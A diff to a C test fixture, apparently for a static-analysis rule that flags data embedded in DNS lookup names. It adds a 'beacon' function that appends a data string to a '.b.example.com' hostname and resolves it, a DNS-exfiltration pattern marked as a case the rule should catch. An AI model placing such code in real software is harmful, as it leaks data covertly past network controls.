@@ -38,6 +38,17 @@ int question(const char *typed, unsigned char *answer)
     return res_query(host, 1, 1, answer, 512);
 }
 
+int beacon(const char *unit, char *name, unsigned long used)
+{
+    struct addrinfo *r = 0;
+
+    snprintf(name + used, 64, ".%.12s.b.example.com", unit);
+    // ruleid: data-in-looked-up-name
+    if (getaddrinfo(name, NULL, NULL, &r) == 0)
+        freeaddrinfo(r);
+    return 0;
+}
+
 struct hostent *peer(const char *configured)
 {
     // ok: data-in-looked-up-name
